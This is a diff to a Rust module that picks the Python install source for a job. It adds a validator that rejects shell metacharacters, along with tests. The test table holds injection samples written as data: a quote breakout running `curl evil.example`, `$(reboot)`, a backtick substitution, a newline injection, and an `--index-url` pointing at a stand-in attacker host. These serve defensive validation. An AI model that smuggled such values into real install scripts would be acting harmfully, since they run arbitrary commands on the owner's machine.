@@ -1,4 +1,4 @@
-//! What a Python job needs besides its own files.
+//! What a Python job needs besides its own files, and what it says that it needs.
 //!
 //! Pure. Every client writes the package that it was itself installed from as the first
 //! dependency, so that the job can `import syft_client`. Inside our sandbox a small module with
@@ -6,7 +6,7 @@
 //! installation, and no network, at all. A job that wants the real package names it once more,
 //! anywhere after the first entry.
 
-use super::config::JobConfig;
+use super::config::{JobConfig, check_dependency};
 
 /// What has to be installed for a job.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
@@ -55,9 +55,39 @@ pub(crate) fn of_project(text: &str) -> Result<Vec<String>, String> {
         .map(|item| item.as_str().map(str::to_owned).ok_or_else(wrong))
         .collect::<Result<_, _>>()?;
     for requirement in &requirements {
-        super::config::check_dependency(requirement).map_err(|error| error.to_string())?;
+        check_dependency(requirement).map_err(|error| error.to_string())?;
     }
     Ok(requirements)
+}
+
+const INSTALL_SOURCE_MAX: usize = 512; // bytes; the address of a repository with its revision
+
+/// Returns what the first dependency of a job is to be, and what the submitter should know of it:
+/// `advertised` is what the owner's version file says, `usual` what the owner's generation of
+/// clients installs if nobody says otherwise.
+///
+/// It ends in a script, so what does not fit there is not taken from anybody.
+pub fn install_source(advertised: Option<&str>, usual: String) -> (String, Option<String>) {
+    let Some(advertised) = advertised.filter(|text| !text.is_empty()) else { return (usual, None) };
+    if advertised.len() <= INSTALL_SOURCE_MAX && check_written(advertised).is_ok() {
+        return (advertised.to_owned(), None);
+    }
+    let warning = format!(
+        "what the owner wants jobs to install cannot be put into a script; `{usual}` stands there"
+    );
+    (usual, Some(warning))
+}
+
+/// Checks a dependency that we write: a Python owner runs a script that has it in double quotes.
+///
+/// # Errors
+/// What is wrong, in words for the submitter.
+pub(crate) fn check_written(dependency: &str) -> Result<(), String> {
+    check_dependency(dependency).map_err(|error| error.to_string())?;
+    if dependency.contains(['"', '$', '`', '\\']) {
+        return Err(format!("dependency `{dependency}` has a character that shells interpret"));
+    }
+    Ok(())
 }
 
 /// True for `syft`, `syft-client`, `Syft_Client==0.1`, `syft @ git+https://…`.
@@ -82,6 +112,7 @@ fn is_source_of_client(dependency: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::jobs::layout::Layout;
 
     #[test]
     fn the_client_itself_is_installed_only_if_it_is_asked_for_twice() {
@@ -102,7 +133,7 @@ mod tests {
         ];
         let text = include_str!("../../fixtures/jobs/census-count/config.yaml");
         for (what, dependencies, installed, real_client) in cases {
-            let mut config = JobConfig::parse(text.as_bytes()).unwrap();
+            let mut config = JobConfig::parse(Layout::Flat, text.as_bytes()).unwrap();
             config.dependencies = dependencies.iter().map(|&text| text.to_owned()).collect();
             let got = needs(&config, &[]);
             assert_eq!(got.packages, installed, "{what}");
@@ -111,11 +142,37 @@ mod tests {
     }
 
     #[test]
+    fn what_the_owner_advertises_is_installed_if_a_script_can_hold_it() {
+        let usual = "syft==0.10.0";
+        let long = "x".repeat(513);
+        #[rustfmt::skip]
+        let cases = [
+            // what              advertised                                     installed                    told
+            ("nothing",          None,                                          usual,                        false),
+            ("an empty text",    Some(""),                                      usual,                        false),
+            ("a release",        Some("syft==0.10.3"),                          "syft==0.10.3",               false),
+            ("a repository",     Some("git+https://h.org/o/syft.git@1a2b"),     "git+https://h.org/o/syft.git@1a2b", false),
+            ("a checkout",       Some("/home/do/src/syft"),                     "/home/do/src/syft",          false),
+            ("a way out",        Some("x\"; curl evil.example; \""),            usual,                        true),
+            ("a substitution",   Some("$(reboot)"),                             usual,                        true),
+            ("the older form",   Some("`reboot`"),                              usual,                        true),
+            ("a second line",    Some("syft\nreboot"),                          usual,                        true),
+            ("an option",        Some("--index-url=http://evil.example"),       usual,                        true),
+            ("a blank",          Some(" "),                                     usual,                        true),
+            ("too much",         Some(long.as_str()),                           usual,                        true),
+        ];
+        for (what, advertised, installed, told) in cases {
+            let (source, warning) = install_source(advertised, usual.to_owned());
+            assert_eq!((source.as_str(), warning.is_some()), (installed, told), "{what}");
+        }
+    }
+
+    #[test]
     fn a_project_says_what_it_needs() {
         let text = "[project]\nname = 'x'\ndependencies = ['numpy>=1', 'syft-client']\n";
         let project = of_project(text).unwrap();
         let config = include_str!("../../fixtures/jobs/census-count/config.yaml");
-        let config = JobConfig::parse(config.as_bytes()).unwrap();
+        let config = JobConfig::parse(Layout::Flat, config.as_bytes()).unwrap();
         assert_eq!(needs(&config, &project).packages, ["numpy>=1", "numpy"]);
         assert_eq!(of_project("[tool.x]\n").unwrap(), Vec::<String>::new());
         for bad in ["[", "[project]\ndependencies = 'x'", "[project]\ndependencies = ['-e .']"] {
